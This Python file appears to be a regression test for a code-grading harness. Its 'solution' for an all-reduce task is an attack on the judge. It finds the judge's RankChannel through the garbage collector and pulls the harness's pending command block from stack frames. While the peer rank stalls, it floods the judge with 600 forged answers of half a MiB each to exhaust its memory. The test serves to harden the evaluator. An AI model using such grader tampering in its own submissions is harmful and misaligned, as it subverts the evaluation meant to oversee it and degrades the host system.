"""Attack (all-reduce): make the judge keep what the candidate sends, with answers to the block
it is running. The channel's token is in this process's memory and the block's command in the
harness's frame above. While its peer still runs the first trial, rank 0 answers that block 600
times, each answer naming a task of half a MiB, each a new one: a second answer ends the side
only once the block is over, and meanwhile the judge added every answer's task to the rank's
list of steps. Before the fix, the judge's memory grew by about 300 MiB (more the longer the
peer takes: a first trial may run for the build limit)."""

import gc
import sys
import time

import torch.distributed as dist

ANSWERS = 600
_done = []


def _channel():
    return next((o for o in gc.get_objects() if type(o).__name__ == "RankChannel"), None)


def _block():
    frame = sys._getframe(1)
    while frame is not None:
        command = frame.f_locals.get("command")
        if isinstance(command, dict) and command.get("cmd") == "calls":
            return command.get("block")
        frame = frame.f_back
    return None


def solution(x, *, group):
    if not _done:
        _done.append(1)
        channel, block = _channel(), _block()
        if dist.get_rank(group) == 1:
            time.sleep(5.0)  # the peer holds the block open while rank 0 answers it
        elif channel is not None and block is not None:
            filler = "t" * (1 << 19)
            for i in range(ANSWERS):
                channel.send("times", task=f"{i}{filler}", block=block)
    out = x.clone()
    dist.all_reduce(out, group=group)
    return out
